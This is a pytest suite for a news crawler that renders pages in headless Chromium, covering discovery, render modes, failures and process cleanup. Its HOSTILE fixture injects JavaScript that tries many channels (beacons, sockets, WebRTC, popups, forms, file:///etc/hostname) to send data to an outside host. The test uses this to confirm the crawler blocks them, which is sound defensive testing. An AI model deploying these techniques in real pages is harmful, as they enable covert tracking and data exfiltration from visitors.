"""A real browser: sections that load more by script, views, and every kind of failure."""

from __future__ import annotations

import os
import re
import select
import signal
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Event, Thread
from typing import Any

import pytest
from scrapy.settings import Settings

from kznews.browser import find as location
from kznews.browser.find import INSTALL, BrowserLocation, find
from kznews.browser.own_site import MOST_VISITS
from kznews.storage.archive import Archive
from replica import Fault, Newsroom, Server
from replica.answer import Answer
from replica.scripted import AJAX, views
from tests.crawling import FAST, ROOT, SCRAPY, Run, crawl

SECTION = "poslednie-novosti"
LISTING = f"/category/{SECTION}"
FOUND = find({})
needs_browser = pytest.mark.skipif(FOUND is None, reason=f"no browser: {INSTALL}")


QUICK = ("-s", "KZNEWS_BROWSER_QUIET=0.7")


@contextmanager
def site(articles: int = 25, theme: Any = "current", **scripted: Any) -> Iterator[Server]:
    """Serve a site; a section's kind of script is given by its slug, a hyphen being written _."""
    newsroom = Newsroom(articles=articles, oddities=False, theme=theme)
    for name, kind in scripted.items():
        newsroom.script(name.replace("_", "-"), kind)
    with Server(newsroom) as server:
        yield server


def stat(run: Run, name: str) -> int:
    counted = re.search(rf"'{name}': (\d+)", run.log)
    return int(counted[1]) if counted else 0


def reason(run: Run) -> str:
    return re.search(r"'finish_reason': '(\w+)'", run.log)[1]  # type: ignore[index]


def asked_by_script(server: Server) -> list[str]:
    return [hit.path for hit in server.log if hit.path.startswith(AJAX)]


# --- Which browser --------------------------------------------------------------------------------


def executable(path: Path) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("#!/bin/sh\n")
    path.chmod(0o755)
    return str(path)


def test_the_browser_is_the_named_the_running_the_system_s_then_playwright_s(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(location, "MAC_APP", "")
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path / "cache"))
    assert find({}) is None
    own = executable(tmp_path / "cache" / "chromium-1255" / "chrome-linux" / "chrome")
    assert find({}) == BrowserLocation(own)
    system = executable(tmp_path / "bin" / "google-chrome")
    assert find({}) == BrowserLocation(system)
    running = {"KZNEWS_BROWSER_CDP": "http://127.0.0.1:9222"}
    assert find(running) == BrowserLocation(cdp="http://127.0.0.1:9222")
    named = executable(tmp_path / "named")
    assert find({**running, "KZNEWS_BROWSER": named}) == BrowserLocation(named)
    assert find({**running, "KZNEWS_BROWSER": f"{named}-not"}) is None


def test_a_mode_that_is_none_ends_the_run_at_once(tmp_path: Path) -> None:
    with site() as server:
        run = crawl(server.url, tmp_path, render="sometimes")
        assert run.status == 2
        assert "expected auto or always or never" in run.log
        run = crawl(server.url, tmp_path, "-s", "KZNEWS_RENDER=sometimes")
        assert run.status == 2
        assert "expected one of auto, always, never" in run.log
        assert server.log == []


def test_chromium_is_kept_in_its_sandbox_unless_root_starts_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def arguments(user: int) -> list[str]:
        monkeypatch.setattr(os, "geteuid", lambda: user, raising=False)
        told = location.playwright_settings(
            BrowserLocation("chromium"), Settings({"KZNEWS_BROWSER_TIMEOUT": 5})
        )
        return list(told["PLAYWRIGHT_LAUNCH_OPTIONS"]["args"])

    assert "--no-sandbox" not in arguments(1000)
    assert "--no-sandbox" in arguments(0)


# --- Without one ----------------------------------------------------------------------------------


def test_an_ordinary_crawl_does_not_even_import_playwright(tmp_path: Path) -> None:
    script = (
        "import sys; from scrapy.cmdline import execute\n"
        "try: execute(sys.argv)\n"
        "finally: print('imported', sum('playwright' in name for name in sys.modules))"
    )
    with site() as server:
        words = ("crawl", "365info", "-a", f"base_url={server.url}", *FAST)
        done = subprocess.run(
            (sys.executable, "-c", script, *words),
            cwd=ROOT,
            env={**os.environ, "KZNEWS_DATA_DIR": str(tmp_path)},
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
    assert "25 articles, 0 rejected" in done.stderr
    assert "browser/" not in done.stderr
    assert done.stdout.split()[-2:] == ["imported", "0"]


def test_without_a_browser_plain_sections_are_delivered_and_the_run_says_so(
    tmp_path: Path,
) -> None:
    with site(articles=30, poslednie_novosti="late", ekonomika="scroll") as server:
        run = crawl(server.url, tmp_path, "-s", "KZNEWS_BROWSER=/nowhere")
        named = [post for post in server.newsroom.posts if len(post.categories) > 1]
    assert (run.status, reason(run)) == (1, "no_browser")
    assert run.urls() == {server.url + post.path for post in named}
    assert run.urls()
    assert INSTALL in run.log
    assert "KZNEWS_BROWSER=/nowhere is none" in run.log


def test_never_means_never_and_leaves_the_section_unfinished(tmp_path: Path) -> None:
    with site(poslednie_novosti="button") as server:
        run = crawl(server.url, tmp_path, sections=SECTION, render="never")
    assert (run.status, len(run.articles)) == (0, 10)
    assert stat(run, "browser/refused") == 1
    assert "render=never leaves it there" in run.log
    archive = Archive(f"sqlite:///{tmp_path / 'archive.db'}")
    assert archive.urls.mark("365info", SECTION) == 0  # what lies below is not known
    archive.close()


def test_always_without_a_browser_delivers_by_plain_http(tmp_path: Path) -> None:
    with site(articles=4) as server:
        options = ("-s", "KZNEWS_BROWSER=/nowhere")
        run = crawl(server.url, tmp_path, *options, render="always", sections=SECTION)
    assert (run.status, reason(run), len(run.articles)) == (1, "no_browser", 4)


def test_what_is_no_browser_is_tried_twice_and_then_done_without(tmp_path: Path) -> None:
    with site(poslednie_novosti="button") as server:
        options = ("-s", "KZNEWS_BROWSER=/bin/false", *QUICK)
        run = crawl(server.url, tmp_path, *options, sections=SECTION)
    assert (run.status, reason(run), len(run.articles)) == (1, "no_browser", 10)
    assert stat(run, "browser/starts") == 2


# --- With one -------------------------------------------------------------------------------------


@needs_browser
def test_sections_are_complete_however_they_go_on_and_plain_ones_use_no_browser(
    tmp_path: Path,
) -> None:
    kinds = {"poslednie_novosti": "button", "ekonomika": "late", "sport": "scroll"}
    with site(articles=200, **kinds) as server:
        everything = {server.url + post.path for post in server.newsroom.posts}
        run = crawl(server.url, tmp_path, *QUICK)
        assert (run.status, reason(run)) == (0, "finished"), run.log
        assert run.urls() == everything
        assert stat(run, "browser/requests") == 3
        assert stat(run, "browser/starts") == 1
        assert stat(run, "playwright/page_count/max_concurrent") <= 2
        assert not [hit for hit in server.log if hit.path.startswith("/uploads/")]
        server.clear_log()
        post = server.newsroom.publish()
        again = crawl(server.url, tmp_path, *QUICK)
        assert (again.status, again.urls()) == (0, everything | {server.url + post.path})
        assert len(asked_by_script(server)) <= 3  # every walk was whole: only the late list asks


@needs_browser
def test_a_list_that_breaks_off_is_never_taken_for_whole(tmp_path: Path) -> None:
    kinds = {"poslednie_novosti": "button", "ekonomika": "late"}
    sections = f"{SECTION},ekonomika"
    with site(articles=60, **kinds) as server:
        server.fault(re.compile(f"{AJAX}.*section={SECTION}&page=4"), Fault.status(500))
        server.fault(re.compile(f"{AJAX}.*section=ekonomika"), Fault.hang())
        options = ("-s", "KZNEWS_BROWSER_TIMEOUT=6", *QUICK)
        run = crawl(server.url, tmp_path, *options, sections=sections)
        assert (run.status, reason(run)) == (1, "incomplete"), run.log
        assert re.search(r"page=4&proof=\d+ answered 500", run.log)
        assert "'ekonomika' could not be read to its end (truncated: no answer" in run.log
        assert 30 <= len(run.articles) < 60
        assert (stat(run, "browser/requests"), stat(run, "browser/starts")) == (2, 1)
        server.clear_faults()
        again = crawl(server.url, tmp_path, *QUICK, sections=sections)
        assert (again.status, len(again.articles)) == (0, 60), again.log


@needs_browser
def test_pages_days_and_a_count_bound_a_list_that_grows(tmp_path: Path) -> None:
    kinds = {"poslednie_novosti": "button", "ekonomika": "scroll"}
    with site(articles=60, **kinds) as server:
        run = crawl(server.url, tmp_path, *QUICK, sections=SECTION, max_pages="3")
        assert (run.status, len(run.articles)) == (0, 30)
        newest = server.newsroom.newest_first
        day = f"{newest[14].local:%Y-%m-%d}"
        since = crawl(server.url, tmp_path / "since", *QUICK, sections=SECTION, since=day)
        asked = {server.url + p.path for p in newest if f"{p.local:%Y-%m-%d}" >= day}
        assert (since.status, since.urls()) == (0, asked)
        server.robots = "User-agent: *\nDisallow: /wp-admin/admin-ajax.php?*ekonomika\n"
        options = ("-s", "KZNEWS_BROWSER_LOADS=2", *QUICK)
        limited = crawl(server.url, tmp_path, *options, sections=f"{SECTION},ekonomika")
        assert (limited.status, reason(limited)) == (1, "incomplete")
        assert "grows more than KZNEWS_BROWSER_LOADS=2 times" in limited.log
        assert "section 'ekonomika' could not be read to its end" in limited.log
        assert not [path for path in asked_by_script(server) if "ekonomika" in path]


@needs_browser
def test_a_page_that_reloads_itself_by_script_is_left(tmp_path: Path) -> None:
    with site(articles=4) as server:
        guard = "<html><body><script>location.reload()</script></body></html>"
        server.fault(LISTING, Fault(lambda _: Answer(200, guard)))
        run = crawl(server.url, tmp_path, *QUICK, "-s", "RETRY_TIMES=0", sections=SECTION)
        assert run.status == 1
        assert run.rejected[server.url + LISTING]["reason"] == "redirect_loop"
        assert len([hit for hit in server.log if hit.path == LISTING]) == 1 + MOST_VISITS


@needs_browser
def test_views_are_read_where_everything_is_rendered(tmp_path: Path) -> None:
    with site(theme="old", articles=4) as server:
        posts = server.newsroom.posts
        counts: dict[str, int | None] = {server.url + p.path: views(p.id) for p in posts[1:]}
        counts[server.url + posts[1].path] = None
        server.fault(posts[0].path, Fault.hang())
        server.fault(f"{AJAX}?action=views&post={posts[1].id}", Fault.status(403))
        options = ("-s", "KZNEWS_BROWSER_TIMEOUT=6", "-s", "RETRY_ENABLED=0", *QUICK)
        run = crawl(server.url, tmp_path, *options, sections=SECTION, render="always")
        assert run.status == 0, run.log
        assert {a["url"]: a["views"] for a in run.articles} == counts
        assert run.rejected[server.url + posts[0].path]["reason"] == "timeout"
        assert stat(run, "browser/requests") == 6  # four articles, the listing, its missing page 2
        server.clear_faults()
        plain = crawl(server.url, tmp_path / "plain", sections=SECTION)
        assert [a["views"] for a in plain.articles] == [None] * 4


# --- What a page may reach ------------------------------------------------------------------------

HOSTILE = """<link rel="prefetch" href="http://{far}/prefetch">
<link rel="preload" as="script" href="http://{far}/preload">
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["http://{far}/spec"]}}],
  "prerender": [{{"source": "list", "urls": ["/leave?prerender"]}}]}}</script>
<img src="http://{far}/image"><iframe src="http://{far}/frame"></iframe><iframe name="in"></iframe>
<form id="a" method="post" target="in" action="http://{far}/form"><input name="x"></form>
<form id="b" method="post" target="_blank" action="http://{far}/popup-form"><input name="x"></form>
<script>
const far = "{far}", stun = {{iceServers: [{{urls: "stun:{udp}"}}]}}, plain = {{mode: "no-cors"}};
const frame = () => document.body.appendChild(document.createElement("iframe"));
for (const attempt of [
  () => fetch("http://" + far + "/fetch", plain),
  () => fetch("http://" + far + "/keepalive", {{keepalive: true, ...plain}}),
  () => fetch("/leave?fetch", plain),
  () => fetch("file:///etc/hostname"),
  () => {{ new Image().src = "/leave?image"; }},
  () => {{ const x = new XMLHttpRequest(); x.open("GET", "http://" + far + "/xhr"); x.send(); }},
  () => navigator.sendBeacon("http://" + far + "/beacon", "x"),
  () => navigator.sendBeacon("/leave?beacon", "x"),
  () => new WebSocket("ws://" + far + "/socket"),
  () => new WebSocket("ws://localhost:" + far.split(":")[1] + "/socket"),
  () => new EventSource("http://" + far + "/events"),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + far + "/worker',",
    "{{mode: 'no-cors'}}); new WebSocket('ws://" + far + "/worker-socket')"]))),
  () => navigator.serviceWorker.register("/leave?worker"),
  () => window.open("http://" + far + "/popup"),
  () => window.open("/leave?popup"),
  () => document.getElementById("a").submit(),
  () => document.getElementById("b").submit(),
  () => import("http://" + far + "/module"),
  () => frame().contentWindow.fetch("http://" + far + "/blank-frame", plain),
  () => new WebTransport("https://{udp}/"),
  () => new RTCPeerConnection(stun).createDataChannel("x"),
  () => {{ const call = new (frame().contentWindow.RTCPeerConnection)(stun);
           call.createDataChannel("x");
           call.createOffer().then(offer => call.setLocalDescription(offer)); }},
  () => document.querySelector(".js-more").addEventListener(
    "click", () => {{ location = "http://" + far + "/location"; }}),
]) try {{ Promise.resolve(attempt()).catch(() => 0); }} catch (error) {{}}
</script>"""


def with_end(answer: Answer, html: str) -> bytes:
    """Return a page with something more at the end of its body."""
    assert isinstance(answer.body, bytes)
    return answer.body.replace(b"</body>", html.encode() + b"</body>")


@contextmanager
def far_away() -> Iterator[tuple[str, str, list[str]]]:
    """Listen on this machine beside the site: host and port for TCP and UDP, and what comes."""
    heard: list[str] = []

    class Hears(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(f"{self.command} {self.path}")
            self.send_error(404)

        do_POST = do_OPTIONS = do_CONNECT = do_GET  # noqa: N815

        def log_message(self, *_: Any) -> None:
            """Keep quiet."""

    with (
        ThreadingHTTPServer(("127.0.0.1", 0), Hears) as server,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        datagrams.bind(("127.0.0.1", 0))
        datagrams.setblocking(False)
        Thread(target=server.serve_forever, daemon=True).start()
        try:
            port = datagrams.getsockname()[1]
            yield f"127.0.0.1:{server.server_port}", f"127.0.0.1:{port}", heard
            with suppress(BlockingIOError):
                heard.append(f"a datagram: {datagrams.recv(100)!r}")
        finally:
            server.shutdown()


@needs_browser
def test_a_page_s_scripts_reach_the_site_and_nothing_else(tmp_path: Path) -> None:
    with site(poslednie_novosti="button") as server, far_away() as (far, udp, heard):
        hostile = HOSTILE.format(far=far, udp=udp)
        server.fault(
            re.compile(f"^{LISTING}$"), Fault(lambda a: replace(a, body=with_end(a, hostile)))
        )
        server.fault(re.compile("^/leave"), Fault.redirect(f"http://{far}/redirected", 307))
        run = crawl(server.url, tmp_path, *QUICK, sections=SECTION)
        left = {hit.path for hit in server.log if hit.path.startswith("/leave")}
    assert (run.status, len(run.articles)) == (0, 25), run.log
    assert "/leave?fetch" in left  # the scripts ran
    assert heard == []


@needs_browser
@pytest.mark.parametrize("way", ["status", "script"])
def test_a_page_that_leaves_the_site_is_not_followed(tmp_path: Path, way: str) -> None:
    with site(articles=4) as server, far_away() as (far, _, heard):
        path = server.newsroom.posts[0].path
        away = f"http://{far}/elsewhere"
        script = "<html><head></head><body><script>location = '/leave'</script></body></html>"
        by_script = Fault(lambda a: replace(a, body=script))
        server.fault(path, Fault.redirect(away, 302) if way == "status" else by_script)
        server.fault("/leave", Fault.redirect(away, 302))
        run = crawl(server.url, tmp_path, *QUICK, sections=SECTION, render="always")
    assert len(run.articles) == 3
    assert heard == []
    assert run.rejected[server.url + path]["reason"] == "redirected"


# --- Ends -----------------------------------------------------------------------------------------


class Marked:
    """A crawl whose processes are known by a mark in their environment, the browser's too."""

    def __init__(self, server: Server, data: Path, *words: str) -> None:
        self.mark = f"KZNEWS_TEST_MARK={uuid.uuid4()}"
        name, value = self.mark.split("=")
        self.data = data
        self.process = subprocess.Popen(
            (*SCRAPY, "crawl", "365info", "-a", f"base_url={server.url}", *FAST, *QUICK, *words),
            cwd=ROOT,
            env={**os.environ, "KZNEWS_DATA_DIR": str(data), name: value},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )

    def pids(self) -> dict[int, str]:
        """Return the command line of every process that bears the mark and is no zombie."""
        found = {}
        for entry in Path("/proc").iterdir():
            with suppress(OSError):
                if entry.name.isdigit() and self.mark.encode() in (entry / "environ").read_bytes():
                    found[int(entry.name)] = (entry / "cmdline").read_bytes().decode()
        return found

    def browser(self) -> int:
        """Return the process that all others of the browser come from."""
        return next(
            pid
            for pid, command in self.pids().items()
            if "--remote-debugging" in command and "--type=" not in command
        )

    def wait(self) -> Run:
        _, log = self.process.communicate(timeout=120)
        return Run(self.process.returncode, log, self.data)

    def is_gone(self) -> bool:
        """Wait until no process is left, the wait bounded by the test's patience."""
        for pid in self.pids():
            with suppress(OSError):
                end = os.pidfd_open(pid)
                poll = select.poll()
                poll.register(end)
                poll.poll(20_000)
                os.close(end)
        return not self.pids()


linux = pytest.mark.skipif(not Path("/proc/self/environ").exists(), reason="asks /proc")


@contextmanager
def held(page: int, server: Server) -> Iterator[tuple[Event, Event]]:
    """Hold back the answer to a script that asks for a page of cards: asked, and let it go."""
    asked, free = Event(), Event()

    def hold(answer: Answer) -> Answer:
        asked.set()
        free.wait(60)
        return answer

    server.fault(re.compile(f"{AJAX}.*page={page}"), Fault(hold, times=1))
    try:
        yield asked, free
    finally:
        free.set()


@needs_browser
@linux
def test_a_browser_that_is_killed_is_started_once_more_and_then_done_without(
    tmp_path: Path,
) -> None:
    with site(articles=40, poslednie_novosti="late") as server:
        crawling = None
        for page in (2, 3):
            with held(page, server) as (asked, free):
                crawling = crawling or Marked(
                    server, tmp_path, "-a", f"sections={SECTION},ekonomika"
                )
                assert asked.wait(60)
                os.kill(crawling.browser(), signal.SIGKILL)
                free.set()
        assert crawling
        run = crawling.wait()
        assert (run.status, reason(run)) == (1, "no_browser"), run.log
        assert "it ended 2 times" in run.log
        economy = [
            p for p in server.newsroom.posts if "ekonomika" in {c.slug for c in p.categories}
        ]
        assert {server.url + post.path for post in economy} <= run.urls()
        assert len(run.articles) < 40
        assert crawling.is_gone()


@needs_browser
@linux
def test_a_browser_that_hangs_is_started_once_more(tmp_path: Path) -> None:
    with site(poslednie_novosti="late") as server, held(2, server) as (asked, free):
        crawling = Marked(
            server,
            tmp_path,
            "-a",
            f"sections={SECTION}",
            "-s",
            "KZNEWS_BROWSER_TIMEOUT=3",
            "-s",
            "RETRY_TIMES=5",
        )
        assert asked.wait(60)
        os.kill(crawling.browser(), signal.SIGSTOP)
        free.set()
        run = crawling.wait()
        assert (run.status, reason(run), len(run.articles)) == (0, "finished", 25), run.log
        assert stat(run, "browser/starts") == 2
        assert crawling.is_gone()


@needs_browser
@linux
def test_no_process_of_the_browser_outlives_a_crawl_that_is_killed(tmp_path: Path) -> None:
    with site(articles=40, poslednie_novosti="late") as server, held(3, server) as (asked, free):
        crawling = Marked(server, tmp_path, "-a", f"sections={SECTION}")
        assert asked.wait(60)
        crawling.process.kill()
        free.set()
        crawling.wait()
        assert crawling.is_gone()


@needs_browser
@linux
def test_a_running_browser_is_used_and_left_running(tmp_path: Path) -> None:
    assert FOUND
    assert FOUND.path
    command = (FOUND.path, "--headless", "--remote-debugging-port=0", *location.ARGUMENTS)
    profile = f"--user-data-dir={tmp_path / 'profile'}"
    root = ("--no-sandbox",) if os.geteuid() == 0 else ()
    with subprocess.Popen((*command, *root, profile), stderr=subprocess.PIPE, text=True) as running:
        assert running.stderr
        address = next(line.split()[-1] for line in running.stderr if "DevTools listening" in line)
        with site(poslednie_novosti="late") as server:
            run = crawl(
                server.url, tmp_path, *QUICK, "-s", f"KZNEWS_BROWSER_CDP={address}",
                sections=SECTION,
            )  # fmt: skip
        assert (run.status, len(run.articles)) == (0, 25), run.log
        assert running.poll() is None
        running.terminate()
